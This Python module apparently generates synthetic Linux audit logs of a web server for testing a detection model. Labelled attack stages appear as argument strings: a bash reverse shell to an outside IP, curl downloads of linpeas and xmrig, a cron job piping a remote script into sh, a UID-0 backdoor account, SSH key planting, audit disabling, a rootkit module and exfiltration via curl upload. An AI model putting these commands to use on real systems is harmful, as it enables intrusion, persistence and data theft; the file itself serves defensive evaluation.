"""Linux audit records of a web server in a cloud, every record an event of its own.

Daily work: cron, monitoring, the shop's own programs, administrators (who read passwords in configuration and run scripts from the
network, too), files and connections that are watched, logins. Attacks: a web shell, a reverse shell, a look around, a local hole to root,
an account, a kernel module and a cron job; many of their records hold no telling word. It is not training material: it was written by a
hand that did not know the training scenarios, to see what the model makes of a site that nobody tuned it for, and what is learned from
can no longer tell that.
"""
from __future__ import annotations

from typing import Any, Optional

from .site import Renumber, Site, epoch

START = epoch(2023, 5, 8)
DAYS = 4
SYSCALLS = {"execve": 59, "openat": 257, "connect": 42, "chmod": 90, "fchmodat": 268, "unlink": 87, "unlinkat": 263, "rename": 82,
            "ptrace": 101, "init_module": 175, "finit_module": 313, "setuid": 105, "socket": 41, "mount": 165, "bpf": 321,
            "memfd_create": 319, "kill": 62, "adjtimex": 159}


def in_hex(value):
    return value.encode().hex().upper()


def quoted(value):
    return f"\"{value}\"" if all(command not in ' "' and 32 < ord(command) < 127 for command in value) else in_hex(value)


USER_IDS = {"root": 0, "www-data": 33, "deploy": 1001, "ubuntu": 1000, "postgres": 113, "zabbix": 115, "_apt": 104, "mia": 1003}


def in_bin(n):
    return "/usr/bin/" + n


JOBS = [(["/bin/sh", "-c", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"], "/usr/bin/dash", "root"),
        (["/bin/sh", "-c", "   cd / && run-parts --report /etc/cron.hourly"], "/usr/bin/dash", "root"),
        (["run-parts", "--report", "/etc/cron.hourly"], "/usr/bin/run-parts", "root"), (["/bin/bash", "/opt/backup/pg_dump.sh"],
    "/usr/bin/bash", "root"), (["pg_dump", "-Fc", "-h", "10.2.0.15", "-U", "shop", "shopdb"], "/usr/lib/postgresql/14/bin/pg_dump",
                               "root"), (["gzip", "-9"], in_bin("gzip"), "root"),
        (["aws", "s3", "cp", "/var/backups/shopdb.dump.gz", "s3://corp-backups/pg/"], "/usr/bin/python3.10", "root"),
        (["find", "/var/lib/php/sessions", "-type", "f", "-cmin", "+24", "-delete"], in_bin("find"), "root"),
        (["php", "/var/www/shop/artisan", "schedule:run"], "/usr/bin/php8.1", "www-data"), (["php", "artisan", "queue:work", "--once"],
    "/usr/bin/php8.1", "www-data"), (["/usr/sbin/logrotate", "/etc/logrotate.conf"], "/usr/sbin/logrotate", "root"),
        (["certbot", "-q", "renew"], "/usr/bin/python3.10", "root"), (["/usr/lib/update-notifier/apt-check", "--human-readable"],
    "/usr/bin/python3.10", "root"), (["dpkg-query", "--show", "--showformat=${Version}", "linux-image-aws"], in_bin("dpkg-query"),
                                     "root"), (["sh", "-c", "cat /proc/loadavg"], "/usr/bin/dash", "zabbix"),
        (["df", "-P", "/"], in_bin("df"), "zabbix"), (["sh", "-c", "ps aux | grep -c '[n]ginx: worker'"], "/usr/bin/dash", "zabbix"),
        (["ps", "aux"], in_bin("ps"), "zabbix"), (["grep", "-c", "[n]ginx: worker"], in_bin("grep"), "zabbix"),
        (["ss", "-lnt"], in_bin("ss"), "zabbix"), (["sudo", "/usr/sbin/nginx", "-t"], in_bin("sudo"), "zabbix"),
        (["id", "-un"], in_bin("id"), "zabbix"),
        (["convert", "/tmp/phpU3kL9a", "-resize", "300x300", "/var/www/shop/storage/app/public/thumbs/a8821.webp"],
         "/usr/bin/convert-im6.q16", "www-data"), (["sh", "-c", "/usr/sbin/sendmail -t -i"], "/usr/bin/dash", "www-data"),
        (["/usr/sbin/sendmail", "-t", "-i"], "/usr/sbin/sendmail", "www-data"),
        (["wkhtmltopdf", "--quiet", "/tmp/knp_snappy64.html", "/tmp/invoice.pdf"], "/usr/local/bin/wkhtmltopdf", "www-data"),
        (["git", "rev-parse", "--short", "HEAD"], in_bin("git"), "www-data"),
        (["node", "/var/www/shop/node_modules/.bin/mjml", "-r", "/tmp/mail.mjml"], "/usr/bin/node", "www-data"),
        (["/usr/lib/apt/methods/https"], "/usr/lib/apt/methods/http", "_apt"), (["/usr/bin/apt-get", "-qq", "-y", "update"],
    "/usr/bin/apt-get", "root"), (["/bin/sh", "/etc/update-motd.d/50-landscape-sysinfo"], "/usr/bin/dash", "root"),
        (["who", "-q"], in_bin("who"), "root"), (["uname", "-r"], in_bin("uname"), "root"),
        (["/usr/bin/python3", "/usr/bin/cloud-init", "status"], "/usr/bin/python3.10", "root"),
        (["curl", "-s", "http://169.254.169.254/latest/meta-data/instance-id"], in_bin("curl"), "root"),
        (["/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent", "-config",
          "/opt/aws/amazon-cloudwatch-agent/etc/config.toml"], "/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent", "root"),
        (["systemctl", "reload", "nginx"], "/usr/bin/systemctl", "root"), (["nproc"], in_bin("nproc"), "root"),
        (["modprobe", "-q", "--", "netdev-eth1"], "/usr/bin/kmod", "root"), (["/sbin/iptables", "-w", "-n", "-L", "f2b-sshd"],
    "/usr/sbin/xtables-nft-multi", "root"), (["/usr/bin/snap", "run", "lxd.hook"], "/usr/bin/snap", "root"),
        (["tar", "--exclude=cache", "-czf", "/var/backups/www.tgz", "/var/www"], in_bin("tar"), "root"),
        (["rsync", "-az", "--delete", "/var/www/", "backup@10.2.0.40:/srv/www"], in_bin("rsync"), "root")]
BY_HAND = [["ls", "--color=auto", "-la"], ["vim", "/etc/nginx/sites-enabled/shop.conf"], ["sudo", "systemctl", "restart", "php8.1-fpm"],
           ["sudo", "-i"], ["tail", "-f", "/var/log/nginx/error.log"], ["grep", "-rn", "DB_PASSWORD", "/var/www/shop/.env"],
           ["cat", "/etc/passwd"], ["git", "pull", "--rebase"], ["composer", "install", "--no-dev", "-o"], ["npm", "ci"],
           ["curl", "-I", "https://shop.example.com/health"], ["ssh", "-T", "git@github.com"], ["psql", "-h", "10.2.0.15", "-U", "shop",
    "-c", "select count(*) from orders where status = 'failed'"], ["htop"], ["sudo", "tcpdump", "-i", "ens5", "port", "5432"],
           ["chmod", "600", "/home/mia/.ssh/authorized_keys"], ["sudo", "apt", "install", "-y", "jq"], ["dircolors", "-b"],
           ["lesspipe"], ["groups"], ["bash", "-c", "cd /var/www/shop && php artisan migrate --force"],
           ["wget", "https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh"],
           ["sudo", "bash", "script.deb.sh"], ["python3", "-c", "import json,sys;print(json.load(sys.stdin)['version'])"],
           ["nc", "-zv", "10.2.0.15", "5432"], ["dig", "+short", "shop.example.com"], ["strace", "-p", "23114", "-f"], ["base64", "-d"],
           ["find", "/var/www/shop/storage", "-name", "*.log", "-size", "+100M"]]
FILES = [("/etc/passwd", "/usr/sbin/nginx", "identity"), ("/etc/shadow", "/usr/sbin/sshd", "identity"),
         ("/etc/shadow", "/usr/sbin/cron", "identity"), ("/etc/shadow", "/usr/bin/sudo", "identity"),
         ("/etc/group", "/usr/bin/dpkg", "identity"), ("/etc/sudoers", "/usr/bin/sudo", "scope"), ("/var/log/lastlog", "/usr/sbin/sshd",
    "logins"), ("/etc/ssh/sshd_config", "/usr/sbin/sshd", "sshd"), ("/etc/hosts", "/usr/bin/python3.10", "system-locale"),
         ("/etc/cron.d/certbot", "/usr/sbin/cron", "cron"), ("/var/spool/cron/crontabs/www-data", "/usr/sbin/cron", "cron"),
         ("/etc/ld.so.cache", "/usr/bin/dpkg-query", None), ("/run/utmp", "/usr/bin/who", "session"),
         ("/var/www/shop/.env", "/usr/sbin/php-fpm8.1", "webconf")]


class AuditdWeb(Site):
    """Audit records of a web server."""

    name = "auditd_web"
    host = "web-prod-02"
    sourcetype = "linux:audit"
    seed = 707
    renumbered = (Renumber(pattern=r"(audit\(\d+\.\d+:)(\d+)(\))", start=104000, step=4),)

    def build(self) -> None:
        self.prepare()
        self.jobs()
        self.administrators()
        self.watched_files()
        self.connections()
        self.logins()
        self.web_shell()
        self.reconnaissance()
        self.to_root()
        self.as_root()
        self.guessed_and_persistent()

    def event(self, at: float, syscall, exe, argv=None, user: str = "root", auid=None, ppid=None, cwd: str = "/", key=None, paths=None,
              success: str = "yes", exit: int = 0, tty: str = "(none)", label: int = 0, group: Optional[str] = None,
              technique: Optional[str] = None, effective=None, address: Optional[str] = None, parts=None, a0=None, session=None) -> None:
        """All records of one system call."""
        self.serial += self.rng.randint(1, 4)
        stamp = f"{int(at)}.{self.rng.randrange(1000):03}"
        head = f"msg=audit({stamp}:{self.serial}):"
        pid = self.rng.randint(900, 65000)
        ppid = ppid or self.rng.randint(1, 64000)
        owner = USER_IDS[user]
        login_id = 4294967295 if auid is None else USER_IDS[auid]
        effective_id = owner if effective is None else effective
        lines = [f"type=SYSCALL {head} arch=c000003e syscall={SYSCALLS[syscall]} success={success} exit={exit} a0="
                 f"{a0 or self.hex(12)} a1={self.hex(12)} a2={self.hex(self.rng.choice([1, 3, 12]))} a3="
                 f"{self.hex(self.rng.choice([1, 3, 8]))} items={int(len(paths or []) or (2 if syscall == 'execve' else 0))}"
                 f" ppid={ppid} pid={pid} auid={login_id} uid={owner} gid={owner} euid={effective_id} suid={effective_id} fsuid="
                 f"{effective_id} egid={owner} sgid={owner} fsgid={owner} tty={tty} ses="
                 f"{session if session is not None else 4294967295 if auid is None else self.rng.randint(2, 900)} comm="
                 f"{quoted((argv[0] if argv else exe).split('/')[-1][:15])} exe={quoted(exe)}{' subj=unconfined'} key="
                 f"{quoted(key) if key else '(null)'}"]
        if argv:
            lines.append("type=EXECVE {} argc={} {}".format(head, len(argv), " ".join(f"a{i}={quoted(text)}" for i,
                text in enumerate(argv))))
        if address:
            lines.append(f"type=SOCKADDR {head} saddr={address}")
        if syscall != "connect" and not address:
            lines.append(f"type=CWD {head} cwd={quoted(cwd)}")
        touched = list(paths or [])
        if syscall == "execve":
            touched = [(exe, "0100755")] + ([("/lib64/ld-linux-x86-64.so.2", "0100755")] if self.rng.random() < 0.8 else [])
        for i, (path, mode) in enumerate(touched):
            lines.append(f"type=PATH {head} item={i} name={quoted(path)} inode={self.rng.randint(300, 900000)} dev=ca:01 mode={mode}"
                         f" ouid=0 ogid=0 rdev=00:00 nametype={'NORMAL' if syscall != 'unlink' else 'DELETE'}"
                         " cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        if argv or self.rng.random() < 0.7:
            lines.append("type=PROCTITLE {} proctitle={}".format(head,
                ("\x00".join(argv) if argv else exe).encode().hex().upper()[:256] if len(argv or [1]) > 1
                else quoted(argv[0] if argv else exe)))
        if parts:
            lines = [text for text in lines if text[5:].split()[0] in parts]
        for text in lines:
            self.add(at, text, label, group, technique)

    def user_event(self, at: float, kind, account, operation, exe, result: str = "success", auid: int = 4294967295, label: int = 0,
                   group: Optional[str] = None, technique: Optional[str] = None, address: str = "?", host: str = "?", terminal: str = "cron",
                   uid: int = 0, pid=None) -> None:
        """One record of PAM or of an account tool."""
        self.serial += 1
        self.add(at,
                 "type={} msg=audit({}.{:03}:{}): pid={} uid={} auid={} ses={} subj=unconfined msg='op={} {}exe=\"{}\" hostname={} addr={} terminal={} res={}'".format(kind,
            int(at), self.rng.randrange(1000), self.serial, int(pid or self.rng.randint(900, 65000)), uid, auid,
            4294967295 if auid == 4294967295 else self.rng.randint(1, 900), operation, ("grantors=pam_permit " if "PAM" in operation
            and self.rng.random() < 0.5 else "") + (f"acct=\"{account}\" " if account else ""), exe, host, address, terminal, result),
                 label, group, technique)

    def attack(self, at: float, argv, exe, user: str = "www-data", group: str = "x", technique: Optional[str] = None,
               cwd: str = "/var/www/shop/public/uploads", **more: Any) -> None:
        self.event(at, more.pop("syscall", "execve"), exe, argv, user, cwd=cwd, key=more.pop("key", "exec"), label=1, group=group,
                   technique=technique, **more)

    def prepare(self) -> None:
        """Who and what is there."""
        self.serial = 104000

    def jobs(self) -> None:
        """Cron, monitoring and the shop's own programs."""
        for _ in range(210):
            at = self.moment(START, DAYS, [1] * 24)
            arguments, effective_id, owner = self.choice(JOBS)
            self.event(at, "execve", effective_id, arguments, owner,
                       cwd=self.choice(["/", "/root", "/var/www/shop", "/"]) if owner != "www-data" else "/var/www/shop/public",
                       key=self.choice(["exec", None, "root_cmd"]) if owner == "root" else "exec")

    def administrators(self) -> None:
        """Administrators at a shell."""
        for _ in range(64):
            at = self.moment(START, DAYS)
            arguments = self.choice(BY_HAND)
            owner = self.choice(["ubuntu", "mia", "deploy"])
            self.event(at, "execve", "/usr/bin/" + arguments[0], arguments, owner, auid=owner, tty=f"pts{self.rng.randint(0, 3)}",
                       cwd=self.choice(["/home/" + owner, "/var/www/shop", "/etc/nginx", "/var/log/nginx"]),
                       key=self.choice([None, "user_cmd"]))

    def watched_files(self) -> None:
        """Files that are watched, opened by whom they belong to."""
        for _ in range(130):
            at = self.moment(START, DAYS, [1] * 24)
            file, effective_id, dice = self.choice(FILES)
            self.event(at, "openat", effective_id, None, "root" if "php" not in effective_id else "www-data", paths=[(file, "0100640")],
                       exit=self.rng.randint(3, 12), key=dice, a0="ffffff9c")

    def connections(self) -> None:
        """Connections that are watched."""
        for _ in range(60):
            at = self.moment(START, DAYS, [1] * 24)
            remote = self.choice(["10.2.0.15", "10.2.0.22", "34.120.9.18", "169.254.169.254", "91.189.91.38"])
            port = self.choice([5432, 6379, 443, 80, 443, 53])
            ad = "0200{:04X}{}0000000000000000".format(port, "".join(f"{int(text):02X}" for text in remote.split(".")))
            self.event(at, "connect", self.choice(["/usr/sbin/php-fpm8.1", "/usr/bin/php8.1", "/usr/bin/curl",
                "/usr/lib/apt/methods/http", "/usr/lib/systemd/systemd-resolved"]), None, self.choice(["www-data", "root"]), address=ad,
                       key="net", exit=self.choice([0, -115]), success=self.choice(["yes", "no"]))

    def logins(self) -> None:
        """Logins and jobs, as PAM tells them."""
        for _ in range(110):
            at = self.moment(START, DAYS, [1] * 24)
            dice = self.rng.randrange(9)
            pid = self.rng.randint(900, 64000)
            if dice < 3:
                for kind_name, operation in [("USER_ACCT", "PAM:accounting"), ("CRED_ACQ", "PAM:setcred"),
                                             ("USER_START", "PAM:session_open"), ("CRED_DISP", "PAM:setcred"),
                                             ("USER_END", "PAM:session_close")]:
                    self.user_event(at, kind_name, "root", operation, "/usr/sbin/cron", pid=pid)
                    at += 0.2
            elif dice < 5:
                self.user_event(at, self.choice(["USER_LOGIN", "USER_AUTH", "CRYPTO_KEY_USER", "USER_ACCT"]),
                                self.choice(["ubuntu", "mia", "deploy"]),
                                self.choice(["PAM:authentication", "login", "PAM:accounting"]), "/usr/sbin/sshd",
                                self.choice(["success", "success", "success", "failed"]), address="10.2.9.4", host="10.2.9.4",
                                terminal="ssh", pid=pid)
            elif dice < 7:
                self.serial += 1
                self.add(at,
                         f"type=SERVICE_{self.choice(['START', 'STOP'])} msg=audit({int(at)}.{self.rng.randrange(1000):03}:{self.serial}"
                         "): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit="
                         f"{self.choice(['apt-daily', 'apt-daily-upgrade', 'certbot', 'fwupd-refresh', 'logrotate', 'man-db', 'motd-news', 'phpsessionclean', 'snapd', 'systemd-tmpfiles-clean', 'user@1000', 'e2scrub_all', 'php8.1-fpm', 'nginx', 'unattended-upgrades'])}"
                         " comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")
            elif dice == 7:
                self.serial += 1
                self.add(at, f"type=USER_CMD msg=audit({int(at)}.{self.rng.randrange(1000):03}:{self.serial}): pid={pid}"
                         f" uid=1000 auid=1000 ses={self.rng.randint(2, 90)} subj=unconfined msg='cwd=\"/home/ubuntu\" cmd="
                         f"{in_hex(self.choice(['systemctl restart nginx', 'apt upgrade -y', 'cat /var/log/auth.log', 'crontab -e', 'ufw status verbose']))}"
                         " exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")
            else:
                self.serial += 1
                self.add(at, self.choice([f"type=NETFILTER_CFG msg=audit({int(at)}.{self.rng.randrange(1000):03}:{self.serial}"
                                          f"): table=f2b-table:37 family=2 entries=3 op=nft_register_rule pid={pid} subj=unconfined comm=\"nft\"",
                                          f"type=BPF msg=audit({int(at)}.{self.rng.randrange(1000):03}:{self.serial}): prog-id={self.rng.randint(20, 400)}"
                                          " op=LOAD", f"type=AVC msg=audit({int(at)}.{self.rng.randrange(1000):03}:{self.serial}"
                                          "): apparmor=\"DENIED\" operation=\"open\" profile=\"snap.lxd.daemon\" name=\"/proc/sys/vm/max_map_count\" pid="
                                          f"{pid} comm=\"lxd\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0"]))

    def web_shell(self) -> None:
        """A web shell, and a shell that calls home."""
        self.at = START + 2 * 86400 + 4 * 3600 + 100
        for command in ["id", "whoami", "uname -a", "pwd", "ls -la /var/www/shop", "cat /var/www/shop/.env", "cat /etc/passwd",
                        "bash -c 'bash -i >& /dev/tcp/45.77.12.109/4443 0>&1'"]:
            self.at += self.rng.expovariate(1 / 30)
            self.attack(self.at, ["sh", "-c", command], "/usr/bin/dash", group="webshell_exec", technique="T1505.003")
            w = command.split()
            if w[0] != "pwd":
                self.attack(self.at + 0.01, w if w[0] != "bash" else ["bash", "-c", "bash -i >& /dev/tcp/45.77.12.109/4443 0>&1"],
                            "/usr/bin/" + w[0], group="webshell_exec" if w[0] != "bash" else "reverse_shell", technique="T1059.004")
        self.event(self.at + 0.05, "connect", "/usr/bin/bash", None, "www-data", address="0200115B2D4D0C6D0000000000000000", key="net",
                   label=1, group="reverse_shell", technique="T1059.004")
        self.attack(self.at + 0.06, ["bash", "-i"], "/usr/bin/bash", group="reverse_shell", technique="T1059.004")

    def reconnaissance(self) -> None:
        """A look around, and at files that are not theirs."""
        self.at += 25
        self.attack(self.at, ["python3", "-c", 'import pty;pty.spawn("/bin/bash")'], "/usr/bin/python3.10", group="reverse_shell",
                    technique="T1059.006")
        for arguments in [["hostname"], ["ip", "a"], ["ps", "auxf"], ["find", "/", "-perm", "-4000", "-type", "f"],
                          ["getcap", "-r", "/"], ["cat", "/etc/crontab"], ["sudo", "-l"], ["ls", "-la", "/home"],
                          ["curl", "-sL", "http://45.77.12.109/linpeas.sh", "-o", "/tmp/.l.sh"], ["chmod", "+x", "/tmp/.l.sh"],
                          ["bash", "/tmp/.l.sh", "-a"], ["grep", "-r", "password", "/var/www"], ["cat", "/home/deploy/.ssh/id_rsa"],
                          ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"],
                          ["mysql", "-e", "show databases"]]:
            self.at += self.rng.expovariate(1 / 15)
            self.attack(self.at, arguments, "/usr/bin/" + arguments[0], group="post_exploit_discovery", technique="T1083", tty="pts1",
                        cwd="/tmp")
        for file in ["/etc/shadow", "/root/.ssh/id_rsa", "/etc/sudoers", "/home/deploy/.ssh/id_rsa", "/var/backups/shadow.bak"]:
            self.at += 3
            self.event(self.at, "openat", "/usr/bin/cat", None, "www-data", paths=[(file, "0100640")], success="no", exit=-13,
                       key="identity", label=1, group="credential_files", technique="T1003.008", cwd="/tmp", a0="ffffff9c")

    def to_root(self) -> None:
        """A local hole to root."""
        self.at += 60
        for arguments, effective_id in [(["gcc", "-o", "/tmp/.x/cve", "/tmp/.x/cve-2021-4034.c"], "/usr/bin/x86_64-linux-gnu-gcc-11"),
                                        (["./cve"], "/tmp/.x/cve"), (["pkexec"], "/usr/bin/pkexec")]:
            self.at += 4
            self.attack(self.at, arguments, effective_id, group="privilege_escalation", technique="T1068", tty="pts1", cwd="/tmp/.x")
        self.attack(self.at + 1, ["/bin/sh"], "/usr/bin/dash", user="www-data", effective=0, group="privilege_escalation",
                    technique="T1068", tty="pts1", cwd="/tmp/.x", key="priv_esc")

    def as_root(self) -> None:
        """What root does then."""
        self.at += 20
        for arguments, effective_id in [(["cat", "/etc/shadow"], "/usr/bin/cat"),
                                        (["useradd", "-o", "-u", "0", "-M", "-s", "/bin/bash", "sysd"], "/usr/sbin/useradd"),
                                        (["chpasswd"], "/usr/sbin/chpasswd"),
                                        (["bash", "-c",
                                          "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBq k@k' >> /root/.ssh/authorized_keys"],
                                         "/usr/bin/bash"), (["chattr", "+i", "/root/.ssh/authorized_keys"], "/usr/bin/chattr"),
                                        (["wget", "-q", "http://45.77.12.109/xmrig", "-O", "/usr/sbin/kthreadd0"], "/usr/bin/wget"),
                                        (["chmod", "755", "/usr/sbin/kthreadd0"], "/usr/bin/chmod"),
                                        (["/usr/sbin/kthreadd0", "-o", "pool.supportxmr.com:443", "-u",
                                          "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
                                          "--tls", "-B"], "/usr/sbin/kthreadd0"), (["sysctl", "-w", "vm.nr_hugepages=128"],
            "/usr/sbin/sysctl"), (["crontab", "-"], "/usr/bin/crontab"),
                                        (["sh", "-c",
                                          "(crontab -l; echo '*/5 * * * * curl -s http://45.77.12.109/i.sh|sh') | crontab -"],
                                         "/usr/bin/dash"), (["systemctl", "stop", "auditd"], "/usr/bin/systemctl"),
                                        (["auditctl", "-e", "0"], "/usr/sbin/auditctl"), (["insmod", "/tmp/.x/diamorphine.ko"],
            "/usr/bin/kmod"), (["rm", "-rf", "/var/log/nginx/access.log"], "/usr/bin/rm"), (["history", "-c"], "/usr/bin/bash"),
                                        (["tar", "czf", "/tmp/.x/d.tgz", "/var/www/shop/storage/exports"], "/usr/bin/tar"),
                                        (["curl", "-F", "f=@/tmp/.x/d.tgz", "http://45.77.12.109:8000/u"], "/usr/bin/curl"),
                                        (["pkill", "-9", "-f", "kinsing"], "/usr/bin/pgrep"),
                                        (["iptables", "-F"], "/usr/sbin/xtables-nft-multi")]:
            self.at += self.rng.expovariate(1 / 20)
            self.attack(self.at, arguments, effective_id, user="root", group="root_actions",
                        technique="T1496" if "kthreadd0" in arguments[0] or "wget" in arguments
                        else "T1098.004" if "ssh-" in str(arguments) else "T1562.012" if "audit" in str(arguments)
                        else "T1053.003" if "crontab" in str(arguments) else "T1059.004", tty="pts1", cwd="/root", effective=0)
        self.user_event(self.at + 5, "ADD_USER", "sysd", "add-user", "/usr/sbin/useradd", label=1, group="root_actions",
                        technique="T1136.001", terminal="pts/1")
        self.event(self.at + 6, "finit_module", "/usr/bin/kmod", None, "root", key="modules", label=1, group="root_actions",
                   technique="T1547.006")
        self.serial += 1
        self.add(self.at + 7, f"type=CONFIG_CHANGE msg=audit({int(self.at + 7)}.112:{self.serial}"
                 "): op=set audit_enabled=0 old=1 auid=4294967295 ses=4294967295 subj=unconfined res=1", 1, "root_actions", "T1562.012")

    def guessed_and_persistent(self) -> None:
        """Passwords guessed; a job that comes back."""
        at = START + 3 * 86400 + 9000
        for _ in range(14):
            at += self.rng.uniform(1, 4)
            self.user_event(at, "USER_AUTH", self.choice(["root", "admin", "(unknown)", "ubuntu"]), "PAM:authentication",
                            "/usr/sbin/sshd", "failed", address="193.32.162.7", host="193.32.162.7", terminal="ssh", label=1,
                            group="ssh_bruteforce", technique="T1110.001")
        for _ in range(4):
            at += 300
            self.attack(at, ["sh", "-c", "curl -s http://45.77.12.109/i.sh|sh"], "/usr/bin/dash", user="root", group="cron_persistence",
                        technique="T1053.003", cwd="/root")
            self.attack(at + 0.1, ["curl", "-s", "http://45.77.12.109/i.sh"], "/usr/bin/curl", user="root", group="cron_persistence",
                        technique="T1053.003", cwd="/root")
